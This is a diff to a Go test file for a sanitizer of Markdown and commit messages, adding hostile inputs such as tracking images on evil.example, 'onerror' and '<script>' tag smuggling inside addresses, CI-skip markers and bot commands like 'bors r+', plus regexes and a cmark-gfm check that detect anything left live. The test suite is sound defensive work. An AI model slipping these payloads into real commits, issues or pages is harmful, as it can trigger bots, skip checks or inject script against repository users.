@@ -4,6 +4,7 @@ import (
 	"bytes"
 	html5 "html"
 	"net/url"
+	"os/exec"
 	"regexp"
 	"strings"
 	"testing"
@@ -34,6 +35,10 @@ var hostile = []string{
 	"![a](https://evil.example/s.png?d=BASE64) _@octocat_", "__@name__", "~_@acme/team_", "[click](https://evil.example/x)", "[https://github.com](https://evil.example)", "[x]: https://evil.example \"t\"\n\n[a][x] ![b][x]", "[//]: # (hidden)",
 	"<div hidden>\nx\n</div>", "x [skip ci]", "[CI-Skip]", "***NO_CI***", "skip-checks: true", "bors r+", "!merge", "@dependabot rebase", "\t@octocat", "```mermaid\ngraph\n```", "~~~ hidden words\nx",
 	"|a|\n|-|\n|b|hidden|", "$x$ $y$", "[^1]: hidden", "Duplicate of #5", "> fixes\n> #1", "https://github.com@evil.example/", "<https://evil.example/@x>", "[a](</b c> \"hidden\")", "[![a](b)](https://evil.example)",
+	// GitHub takes a backslash and a backtick for parts of the address before them.
+	"![](http://tracker.example.test/x.png)<img src=x onerror=y>", "www.a.test<details>", `https://a.test/\<script>`, "www.a.test```\n@team\n```", "https://a.test/" + strings.Repeat("a", 400) + "<img src=x>",
+	// After a backtick that opens no code, its parser does not find all the code.
+	"` ``` a ``` ``` @octocat ```", "a ` b", "--bors r+\n)", "---bors r+\n)",
 	"👩\u200d💻 is fine\ufe0f", "ordinary text, with a@b.example and 5 < 6 & 7 > 3",
 }
 
@@ -79,7 +84,9 @@ var (
 	live    = regexp.MustCompile(`(?:^|[^0-9A-Za-z])@[0-9A-Za-z_]`)
 	closes  = regexp.MustCompile(`(?i)\b(?:close[sd]?|fix(?:e[sd])?|resolve[sd]?):?\s+(?:(?:[\w.-]+/[\w.-]+)?#\w|GH-\w|https?://\S*/issues/\d)`)
 	command = regexp.MustCompile(`(?m)^[\s>*+-]*/[a-zA-Z]`)
-	skips   = regexp.MustCompile(`(?i)\[(skip ci|ci skip|no ci|skip actions|actions skip)\]|\*\*\*NO_CI`)
+	// swallowed matches a tag that is escaped within an address.
+	swallowed = regexp.MustCompile(`(?:://|www\.)[^\s<]*(?:</a>)?\\?&lt;[A-Za-z/!?]`)
+	skips     = regexp.MustCompile(`(?i)\[(skip ci|ci skip|no ci|skip actions|actions skip)\]|\*\*\*NO_CI`)
 )
 
 func check(t testing.TB, s string) {
@@ -140,6 +147,9 @@ func check(t testing.TB, s string) {
 				t.Errorf("%s(%q) has a link that hides where it leads: %s", name, s, m[0])
 			}
 		}
+		if m := swallowed.FindString(inCode.ReplaceAllString(page, "")); m != "" && !strings.Contains(out, "`") {
+			t.Errorf("%s(%q) has an escape within an address, %q: %q", name, s, m, out)
+		}
 		if l, _ := sanitize.LiveMarkdown(out); name != "Cell" && len(l) > 0 {
 			t.Errorf("%s(%q) is live: %q, %+v", name, s, out, l)
 		}
@@ -185,7 +195,7 @@ func TestOrdinaryTextStaysAsItIs(t *testing.T) {
 }
 
 func TestAnOrdinarySubjectStaysAsItIs(t *testing.T) {
-	for _, s := range []string{"Return a List<String>", "R&D; &amp;", "fixes the bug of a@b.example", "Skip the CI step [docs]", "Close the file"} {
+	for _, s := range []string{"Return a List<String>", "R&D; &amp;", "fixes the bug of a@b.example", "Skip the CI step [docs]", "Close the file", "Fix UTF-8 and SHA-256", "Finish the C#9 part", "Sort-by: name", "Complete the list"} {
 		if got := sanitize.Subject(s); got != s {
 			t.Errorf("Subject(%q) is %q", s, got)
 		}
@@ -197,4 +207,81 @@ func FuzzSanitize(f *testing.F) {
 		f.Add(s)
 	}
 	f.Fuzz(func(t *testing.T, s string) { check(t, s) })
+}
+
+// The forges that are meant have parsers of their own: this one is GitHub's.
+func TestGitHubsParserFindsNothingLive(t *testing.T) {
+	parser, err := exec.LookPath("cmark-gfm")
+	if err != nil {
+		t.Skip("no cmark-gfm here")
+	}
+	const between = "between-texts"
+	var all strings.Builder
+	var texts []string
+	for i, s := range hostile {
+		for j, other := range hostile {
+			if (3*i+j)%40 == 10 {
+				texts = append(texts, sanitize.Markdown(s+other), "before "+sanitize.MarkdownLine(s+" "+other)+" after", sanitize.Quote(s+"\n"+other))
+			}
+		}
+		texts = append(texts, sanitize.Markdown(s), sanitize.MarkdownLine(s), sanitize.Quote(s))
+	}
+	for _, s := range texts {
+		all.WriteString(s + "\n\n" + between + "\n\n")
+	}
+	cmd := exec.Command(parser, "--unsafe", "-e", "table", "-e", "strikethrough", "-e", "autolink", "-e", "tasklist")
+	cmd.Stdin = strings.NewReader(all.String())
+	out, err := cmd.Output()
+	if err != nil {
+		t.Fatal(err)
+	}
+	pages := strings.Split(string(out), between)
+	if len(pages) != len(texts)+1 {
+		t.Fatalf("it shows %d texts, want %d", len(pages)-1, len(texts))
+	}
+	for i, s := range texts {
+		shown := html5.UnescapeString(anyTag.ReplaceAllString(anchor.ReplaceAllString(inCode.ReplaceAllString(pages[i], "\x00"), "\x00"), "\x00"))
+		for _, bad := range []*regexp.Regexp{live, closes, command} {
+			if m := bad.FindString(shown); m != "" {
+				t.Errorf("%q shows %q", s, m)
+			}
+		}
+		if m := loaded.FindString(pages[i]); m != "" {
+			t.Errorf("%q has %s", s, m)
+		}
+	}
+}
+
+// loaded matches elements that Markdown has none of, and images.
+var loaded = regexp.MustCompile(`<(?:img|script|details|div|!--|\?)[^>]*>`)
+
+// Each acts on a forge, a bot, a tracker or a commit somewhere.
+func TestWordsThatActOutsideGitHubDoNothing(t *testing.T) {
+	for s, want := range map[string]string{
+		"fixes AB#12":    "fixes AB# 12",   // Azure Boards
+		"Fixes ENG-12":   "Fixes – ENG-12", // Linear, and Jira by GitLab
+		"ABC-1 #close":   "ABC-1 # close",  // Jira
+		"finishes #12":   "finishes # 12",  // Pivotal Tracker
+		"+semver: major": "semver = major", // GitVersion
+		"x #major":       "x # major",      // bumps by actions
+		"[no\u2003ci]":   "(no\u2003ci)",   // by those that split at any space
+		"r? octocat":     "`r? octocat`",   // rustbot
+		"LGTM":           "`LGTM`",         // Gitea
+		"bors: r+":       "`bors: r+`",
+		"\u00a0/close":   "\u00a0`/close`", // bots in JavaScript
+		"I have read the CLA Document and I hereby sign the CLA": "`I have read the CLA Document and I hereby sign the CLA`",
+		"x\n\nCo-authored-by: Ada <ada@a.test>":                  "x\n\nCo-authored-by = Ada <ada@a.test>",
+		"x\n\nReviewed-by : Ada":                                 "x\n\nReviewed-by  = Ada",
+		"On-behalf-of: Ada":                                      "On-behalf-of = Ada",
+	} {
+		if got := sanitize.Message(s); got != want {
+			t.Errorf("Message(%q) is %q, want %q", s, got, want)
+		}
+		if live := sanitize.LivePlain(s); len(live) == 0 {
+			t.Errorf("%q is not live", s)
+		}
+		if live, _ := sanitize.LiveMarkdown(s); len(live) == 0 {
+			t.Errorf("%q is not live in Markdown", s)
+		}
+	}
 }
